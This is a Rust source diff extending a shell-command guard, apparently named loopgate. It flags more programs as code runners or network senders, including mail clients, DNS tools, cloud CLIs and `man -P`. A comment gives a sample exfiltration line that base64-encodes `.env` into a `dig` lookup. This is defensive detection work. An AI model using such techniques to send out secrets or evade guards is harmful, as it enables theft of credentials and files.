@@ -592,22 +592,26 @@ pub const TABLE: &[Program] = &[
             "--input-type",
         ],
     ),
-    interp(
-        &["bun"],
-        Lang::JavaScript,
-        &["-e", "--eval", "-p", "--print"],
-        false,
-        &[
-            "-e",
-            "--eval",
-            "-p",
-            "--print",
-            "-r",
-            "--preload",
-            "--require",
-            "--cwd",
-        ],
-    ),
+    Program {
+        // `bun x PKG ARGS` is `bunx PKG ARGS`.
+        runs: &["x"],
+        ..interp(
+            &["bun"],
+            Lang::JavaScript,
+            &["-e", "--eval", "-p", "--print"],
+            false,
+            &[
+                "-e",
+                "--eval",
+                "-p",
+                "--print",
+                "-r",
+                "--preload",
+                "--require",
+                "--cwd",
+            ],
+        )
+    },
     interp(&["deno"], Lang::JavaScript, &[], false, &[]),
     interp(
         &["ruby", "jruby", "irb"],
@@ -837,6 +841,12 @@ pub const TABLE: &[Program] = &[
     ),
     tool_with_shell(&["rsync"], &["-e", "--rsh"], &[]),
     tool_with_shell(&["zip"], &["-TT", "--unzip-command"], &[]),
+    // `man -P CMD` runs CMD as the pager.
+    tool_with_shell(
+        &["man"],
+        &["-P", "--pager"],
+        &["-M", "-S", "-L", "-m", "-p", "-C"],
+    ),
     // `.shell CMD` and `.system CMD` in its SQL run a shell command.
     tool(&["sqlite3"]),
     // Known so their operands are judged as the files they delete or rewrite.
@@ -869,6 +879,13 @@ pub const TABLE: &[Program] = &[
         "javac",
         "java",
         "tsc",
+        "tcc",
+        "gfortran",
+        "nasm",
+        "swiftc",
+        "kotlinc",
+        "pandoc",
+        "m4",
         "ld",
         "as",
         "ar",
@@ -1048,7 +1065,6 @@ pub const TABLE: &[Program] = &[
         "clear",
         "less",
         "more",
-        "man",
         "tree",
         "fd",
         "bat",
@@ -1166,7 +1182,8 @@ pub fn long_matches(given: &str, full: &str) -> bool {
 }
 
 /// Option words that hand a program code, for programs loopgate does not know.
-pub const CODE_SHAPED_OPTIONS: &[&str] = &["-c", "-e", "--eval", "--exec", "--command", "-ex"];
+pub const CODE_SHAPED_OPTIONS: &[&str] =
+    &["-c", "-e", "--eval", "--exec", "--command", "-ex", "-eval"];
 
 /// A value that reads as code rather than as a name: it holds a separator, a call, a
 /// quote or whitespace between words.
@@ -1180,12 +1197,19 @@ pub fn looks_like_code(value: &str) -> bool {
 /// downloaders, which upload as readily as they fetch: `curl -T`, `wget --post-file`).
 const SENDERS: &[&str] = &[
     "scp", "sftp", "ftp", "lftp", "tftp", "telnet", "nc", "ncat", "netcat", "socat", "rclone",
+    // Mail: a file attached or fed is sent to a mailbox.
+    "mail", "mailx", "mutt", "sendmail", "msmtp", "swaks",
+    // DNS lookups: a name built from a secret (`dig $(base64 .env).x.example`) reaches
+    // whoever serves the zone.
+    "dig", "nslookup", "host", "drill",
+    // Object storage CLIs copy local files to buckets.
+    "gsutil", "s3cmd", "azcopy",
 ];
 
 /// Whether the program (its normalised name and its words after the name) sends data over
 /// the network: a downloader, one of [`SENDERS`], `rsync` with a remote operand
-/// (`host:dst`, `rsync://`), `gh gist` / `gh api`, or `ssh` fed standard input
-/// (`stdin_fed`).
+/// (`host:dst`, `rsync://`), `gh gist` / `gh api` / `gh release`, `openssl s_client`,
+/// `aws`, or `ssh` fed standard input (`stdin_fed`).
 pub fn sends_over_network(name: &str, words: &[&str], stdin_fed: bool) -> bool {
     if role(name) == Some(Role::Downloader) || SENDERS.contains(&name) {
         return true;
@@ -1195,8 +1219,13 @@ pub fn sends_over_network(name: &str, words: &[&str], stdin_fed: bool) -> bool {
         "rsync" => operands().any(|w| w.contains(':')),
         "gh" => operands()
             .next()
-            .is_some_and(|sub| matches!(*sub, "gist" | "api")),
+            .is_some_and(|sub| matches!(*sub, "gist" | "api" | "release")),
         "ssh" => stdin_fed,
+        // `openssl s_client -connect host:port < FILE` sends its input to the server.
+        "openssl" => operands().next().is_some_and(|sub| *sub == "s_client"),
+        // `aws s3 cp FILE s3://...`, `aws s3api put-object --body FILE`: any aws call may
+        // carry a file to the cloud.
+        "aws" => true,
         _ => false,
     }
 }
